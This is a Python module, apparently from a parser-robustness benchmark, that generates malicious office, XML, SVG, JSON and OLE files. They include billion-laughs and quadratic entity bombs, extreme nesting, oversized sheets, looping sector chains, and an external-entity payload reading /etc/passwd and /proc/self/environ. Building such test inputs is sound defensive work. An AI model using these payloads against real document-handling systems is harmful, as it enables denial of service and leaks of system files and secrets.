"""Own bombs made of office documents and XML: entities, depth, repetition, loops."""

from __future__ import annotations

import struct
import zlib
from dataclasses import replace
from random import Random

from bench.archive_bombs import MEGABYTE, Member, again_between, member, prose, zipped

_HEAD = '<?xml version="1.0" encoding="UTF-8"?>\n'
_TYPES = "http://schemas.openxmlformats.org/package/2006/content-types"
_RELATIONS = "http://schemas.openxmlformats.org/package/2006/relationships"
_OFFICE = "http://schemas.openxmlformats.org/officeDocument/2006/relationships"
_WORD = "http://schemas.openxmlformats.org/wordprocessingml/2006/main"
_SHEET = "http://schemas.openxmlformats.org/spreadsheetml/2006/main"
_SLIDE = "http://schemas.openxmlformats.org/presentationml/2006/main"
_DRAWING = "http://schemas.openxmlformats.org/drawingml/2006/main"
_TABLE = "urn:oasis:names:tc:opendocument:xmlns:table:1.0"
_TEXT = "urn:oasis:names:tc:opendocument:xmlns:text:1.0"
_WORD_END = b"</w:body></w:document>"
_SHEET_PART = "xl/worksheets/sheet1.xml"
_OPEN = "urn:oasis:names:tc:opendocument:xmlns:office:1.0"


def laughs(width: int = 10, depth: int = 9) -> str:
    """Give a document type with entities that expand to width ** depth words."""
    lines = ['<!ENTITY l0 "ha">']
    lines += [f'<!ENTITY l{n} "{f"&l{n - 1};" * width}">' for n in range(1, depth + 1)]
    return f"<!DOCTYPE x [{''.join(lines)}]>\n"


def _ooxml(main: str, parts: dict[str, str], *more: Member) -> bytes:
    """Write a package: content types, relations to the main part, and parts."""
    kind = {"word": "wordprocessing", "xl": "spreadsheet", "ppt": "presentation"}[
        main.partition("/")[0]
    ]
    element = {"word": "document", "xl": "sheet", "ppt": "presentation"}[main.partition("/")[0]]
    mime = f"application/vnd.openxmlformats-officedocument.{kind}ml.{element}.main+xml"
    package = {
        "[Content_Types].xml": f'{_HEAD}<Types xmlns="{_TYPES}"><Default Extension="rels" '
        'ContentType="application/vnd.openxmlformats-package.relationships+xml"/>'
        '<Default Extension="xml" ContentType="application/xml"/>'
        f'<Override PartName="/{main}" ContentType="{mime}"/></Types>',
        "_rels/.rels": _relations([("officeDocument", main)]),
        **parts,
    }
    members = [member(name, text.encode()) for name, text in package.items()]
    return zipped([*members, *more])


def _relations(targets: list[tuple[str, str]]) -> str:
    lines = "".join(
        f'<Relationship Id="rId{n}" Type="{_OFFICE}/{kind}" Target="{target}"/>'
        for n, (kind, target) in enumerate(targets, 1)
    )
    return f'{_HEAD}<Relationships xmlns="{_RELATIONS}">{lines}</Relationships>'


def docx(body: str, doctype: str = "", *more: Member) -> bytes:
    """Write a text document."""
    text = f'{_HEAD}{doctype}<w:document xmlns:w="{_WORD}"><w:body>{body}</w:body></w:document>'
    return _ooxml("word/document.xml", {"word/document.xml": text}, *more)


def xlsx(rows: str, shared: str = "", doctype: str = "", *, dimension: str = "A1:B2") -> bytes:
    """Write a workbook of one sheet."""
    return _ooxml("xl/workbook.xml", _workbook(rows, shared, doctype, dimension))


def _workbook(rows: str, shared: str, doctype: str, dimension: str) -> dict[str, str]:
    return {
        "xl/workbook.xml": f'{_HEAD}<workbook xmlns="{_SHEET}" xmlns:r="{_OFFICE}"><sheets>'
        '<sheet name="a" sheetId="1" r:id="rId1"/></sheets></workbook>',
        "xl/_rels/workbook.xml.rels": _relations(
            [("worksheet", "worksheets/sheet1.xml"), ("sharedStrings", "sharedStrings.xml")]
        ),
        "xl/sharedStrings.xml": f'{_HEAD}{doctype}<sst xmlns="{_SHEET}">{shared}</sst>',
        _SHEET_PART: f'{_HEAD}{doctype}<worksheet xmlns="{_SHEET}">'
        f'<dimension ref="{dimension}"/><sheetData>{rows}</sheetData></worksheet>',
    }


def pptx(slides: list[str], doctype: str = "") -> bytes:
    """Write a presentation."""
    ids = "".join(f'<p:sldId id="{255 + n}" r:id="rId{n}"/>' for n in range(1, len(slides) + 1))
    parts = {
        "ppt/presentation.xml": f'{_HEAD}<p:presentation xmlns:p="{_SLIDE}" xmlns:r="{_OFFICE}">'
        f"<p:sldIdLst>{ids}</p:sldIdLst></p:presentation>",
        "ppt/_rels/presentation.xml.rels": _relations(
            [("slide", f"slides/slide{n}.xml") for n in range(1, len(slides) + 1)]
        ),
    }
    for number, text in enumerate(slides, 1):
        parts[f"ppt/slides/slide{number}.xml"] = (
            f'{_HEAD}{doctype}<p:sld xmlns:p="{_SLIDE}" xmlns:a="{_DRAWING}"><p:cSld><p:spTree>'
            f"<p:sp><p:txBody>{text}</p:txBody></p:sp></p:spTree></p:cSld></p:sld>"
        )
    return _ooxml("ppt/presentation.xml", parts)


def opendocument(kind: str, body: str, doctype: str = "", *more: Member) -> bytes:
    """Write a text, spreadsheet or presentation of OpenDocument."""
    mime = f"application/vnd.oasis.opendocument.{kind}".encode()
    text = (
        f'{_HEAD}{doctype}<office:document-content xmlns:office="{_OPEN}" xmlns:table="{_TABLE}" '
        f'xmlns:text="{_TEXT}"><office:body><office:{kind}>{body}</office:{kind}></office:body>'
        "</office:document-content>"
    )
    first = Member("mimetype", mime, len(mime), zlib.crc32(mime), 0)
    return zipped([first, member("content.xml", text.encode()), *more])


def paragraph(text: str) -> str:
    """Give a paragraph of a text document."""
    return f"<w:p><w:r><w:t>{text}</w:t></w:r></w:p>"


def _row(cells: list[str]) -> str:
    inside = "".join(f'<c t="inlineStr"><is><t>{cell}</t></is></c>' for cell in cells)
    return f"<row>{inside}</row>"


def docx_laughs(random: Random) -> bytes:
    """Billion laughs in a text document."""
    return docx(paragraph("&l9;"), laughs(random.randrange(8, 12)))


def docx_quadratic(random: Random) -> bytes:
    """One long entity, used again and again."""
    doctype = f'<!DOCTYPE x [<!ENTITY a "{"a" * 50_000}">]>'
    return docx(paragraph("&a;" * random.randrange(5_000, 20_000)), doctype)


def docx_external(random: Random) -> bytes:
    """An entity that is a file of the reader's machine."""
    name = random.choice(("/etc/passwd", "/dev/zero", "/proc/self/environ"))
    return docx(paragraph("&x;"), f'<!DOCTYPE x [<!ENTITY x SYSTEM "file://{name}">]>')


def docx_deep(random: Random) -> bytes:
    """Tables in tables."""
    depth = random.randrange(3_000, 60_000)
    return docx("<w:tbl><w:tr><w:tc>" * depth + paragraph("x") + "</w:tc></w:tr></w:tbl>" * depth)


def docx_long(random: Random) -> bytes:
    """More text than is read."""
    text = paragraph(prose(random, 100_000)).encode()
    start = f'{_HEAD}<w:document xmlns:w="{_WORD}"><w:body>'.encode()
    return _packed_main(again_between(start, text, random.randrange(85, 150), _WORD_END))


def docx_zeros(random: Random) -> bytes:
    """A main part of hundreds of megabytes of blanks."""
    start = f'{_HEAD}<w:document xmlns:w="{_WORD}"><w:body>'.encode()
    return _packed_main(again_between(start, b" " * MEGABYTE, random.randrange(60, 300), _WORD_END))


def _packed_main(main: Member) -> bytes:
    """Write a text document around a main part that is packed already."""
    return _ooxml("word/document.xml", {}, replace(main, name="word/document.xml"))


def docx_embedded(random: Random) -> bytes:
    """A document in a document in a document."""
    octets = docx(paragraph("at last"))
    for _ in range(random.randrange(10, 30)):
        octets = docx(paragraph("x"), "", member("word/embeddings/a.docx", octets))
    return octets


def xlsx_laughs(random: Random) -> bytes:
    """Billion laughs in the shared strings."""
    cell = '<row r="1"><c r="A1" t="s"><v>0</v></c></row>'
    return xlsx(cell, "<si><t>&l9;</t></si>", laughs(random.randrange(8, 12)))


def xlsx_strings(random: Random) -> bytes:
    """One long shared string in very many cells."""
    cells = "".join(f'<row r="{n}"><c t="s"><v>0</v></c></row>' for n in range(1, 2_000))
    return xlsx(cells, f"<si><t>{prose(random, random.randrange(30_000, 32_000))}</t></si>")


def xlsx_cells(random: Random) -> bytes:
    """More cells than are read."""
    rows = random.randrange(21_000, 40_000)
    row = _row([str(random.randrange(1_000)) for _ in range(100)]).encode()
    start = f'{_HEAD}<worksheet xmlns="{_SHEET}"><sheetData>'.encode()
    sheet = again_between(start, row * 100, rows // 100, b"</sheetData></worksheet>")
    parts = _workbook("", "", "", "A1:B2")
    del parts[_SHEET_PART]
    return _ooxml("xl/workbook.xml", parts, replace(sheet, name=_SHEET_PART))


def xlsx_sheets(random: Random) -> bytes:
    """Thousands of sheets, each its own part."""
    count = random.randrange(2_100, 5_000)
    parts = _workbook(_row(["1"]), "", "", "A1:A1")
    sheet = parts[_SHEET_PART]
    names = [f"worksheets/sheet{n}.xml" for n in range(1, count)]
    parts["xl/workbook.xml"] = (
        f'{_HEAD}<workbook xmlns="{_SHEET}" xmlns:r="{_OFFICE}"><sheets>'
        + "".join(f'<sheet name="{n}" sheetId="{n}" r:id="rId{n}"/>' for n in range(1, count))
        + "</sheets></workbook>"
    )
    parts["xl/_rels/workbook.xml.rels"] = _relations([("worksheet", name) for name in names])
    parts |= dict.fromkeys((f"xl/{name}" for name in names), sheet)
    return _ooxml("xl/workbook.xml", parts)


def xlsx_beyond(random: Random) -> bytes:
    """Cells beyond the end of any sheet."""
    number = random.randrange(1 << 31, 1 << 40)
    return xlsx(f'<row r="{number}"><c r="ZZZZZZ{number}"><v>1</v></c></row>', dimension="A1:A9")


def xlsx_deep(random: Random) -> bytes:
    """Elements in elements in a cell."""
    depth = random.randrange(20_000, 200_000)
    inside = "<is>" * depth + "<t>x</t>" + "</is>" * depth
    return xlsx(f'<row r="1"><c r="A1" t="inlineStr">{inside}</c></row>')


def pptx_laughs(random: Random) -> bytes:
    """Billion laughs on a slide."""
    return pptx(["<a:p><a:r><a:t>&l9;</a:t></a:r></a:p>"], laughs(random.randrange(8, 12)))


def pptx_many(random: Random) -> bytes:
    """Thousands of slides."""
    return pptx(["<a:p><a:r><a:t>x</a:t></a:r></a:p>"] * random.randrange(3_100, 6_000))


def pptx_deep(random: Random) -> bytes:
    """Groups in groups."""
    depth = random.randrange(20_000, 100_000)
    return pptx(["<a:p>" * depth + "x" + "</a:p>" * depth])


def ods_laughs(random: Random) -> bytes:
    """Billion laughs in a spreadsheet."""
    cell = "<table:table><table:table-row><table:table-cell><text:p>&l9;</text:p>"
    ends = "</table:table-cell></table:table-row></table:table>"
    return opendocument("spreadsheet", cell + ends, laughs(random.randrange(8, 12)))


def ods_repeated(random: Random) -> bytes:
    """One cell, a million rows and a thousand columns of it."""
    rows = random.randrange(100_000, 1_048_576)
    body = (
        f'<table:table table:name="a"><table:table-row table:number-rows-repeated="{rows}">'
        '<table:table-cell table:number-columns-repeated="1024" office:value-type="string">'
        "<text:p>x</text:p></table:table-cell></table:table-row></table:table>"
    )
    return opendocument("spreadsheet", body)


def odt_deep(random: Random) -> bytes:
    """Sections in sections."""
    depth = random.randrange(20_000, 100_000)
    return opendocument("text", "<text:section>" * depth + "x" + "</text:section>" * depth)


def odt_spaces(random: Random) -> bytes:
    """Blanks by their number: ``text:s`` with a count of billions."""
    spaces = f'<text:s text:c="{random.randrange(1 << 28, 1 << 33)}"/>'
    return opendocument("text", f"<text:p>a{spaces}b</text:p>" * random.randrange(1, 9))


def xml_laughs(random: Random) -> bytes:
    """Billion laughs, bare."""
    return f"{_HEAD}{laughs(random.randrange(8, 14))}<x>&l9;</x>".encode()


def xml_quadratic(random: Random) -> bytes:
    """Quadratic blow-up, bare."""
    entity = f'<!DOCTYPE x [<!ENTITY a "{"a" * 60_000}">]>'
    return f"{_HEAD}{entity}<x>{'&a;' * random.randrange(5_000, 40_000)}</x>".encode()


def xml_deep(random: Random) -> bytes:
    """Elements in elements, without end."""
    depth = random.randrange(100_000, 1_000_000)
    return _HEAD.encode() + b"<a>" * depth + b"x" + b"</a>" * depth


def xml_attributes(random: Random) -> bytes:
    """Hundreds of thousands of attributes, and then no end of the element."""
    count = random.randrange(700_000, 900_000)
    return (_HEAD + "<x " + " ".join(f'a{n}="b"' for n in range(count))).encode()


def xml_long(random: Random) -> bytes:
    """More text than is read."""
    return f"{_HEAD}<x>{prose(random, 100_000) * random.randrange(90, 150)}</x>".encode()


def json_deep(random: Random) -> bytes:
    """Lists in lists."""
    depth = random.randrange(100_000, 2_000_000)
    return b"[" * depth + b"]" * depth


def svg_laughs(random: Random) -> bytes:
    """A drawing that laughs."""
    words = laughs(random.randrange(8, 12))
    return f'{_HEAD}{words}<svg xmlns="http://www.w3.org/2000/svg"><text>&l9;</text></svg>'.encode()


def ole_loop(random: Random) -> bytes:
    """A compound file whose sectors lead in circles."""
    head = bytearray(b"\xd0\xcf\x11\xe0\xa1\xb1\x1a\xe1" + bytes(504))
    head[24:34] = struct.pack("<HHHHH", 0x3E, 3, 0xFFFE, 9, 6)
    head[44:76] = struct.pack("<IIIIIIII", 1, 1, 0, 4096, 2, 1, 0xFFFFFFFE, 0)
    head[76:512] = struct.pack("<109I", 0, *[0xFFFFFFFF] * 108)
    sectors = [random.randrange(4) for _ in range(128)]
    sectors[0], sectors[1] = 0xFFFFFFFD, 1
    table = struct.pack("<128I", *sectors)
    entry = bytearray(128)
    entry[:22] = "Root Entry\0".encode("utf-16-le")
    entry[64:68] = struct.pack("<HBB", 22, 5, 1)
    entry[68:80] = struct.pack("<III", 1, 1, 1)
    entry[116:124] = struct.pack("<II", 2, 1 << 30)
    inside = bytearray(entry)
    inside[:26] = "WordDocument\0".encode("utf-16-le")
    inside[64:68] = struct.pack("<HBB", 26, 2, 1)
    return bytes(head) + table + bytes(entry) + bytes(inside) * 3 + random.randbytes(1024)


def ole_noise(random: Random) -> bytes:
    """A compound file of noise."""
    return b"\xd0\xcf\x11\xe0\xa1\xb1\x1a\xe1" + random.randbytes(random.randrange(600, 50_000))
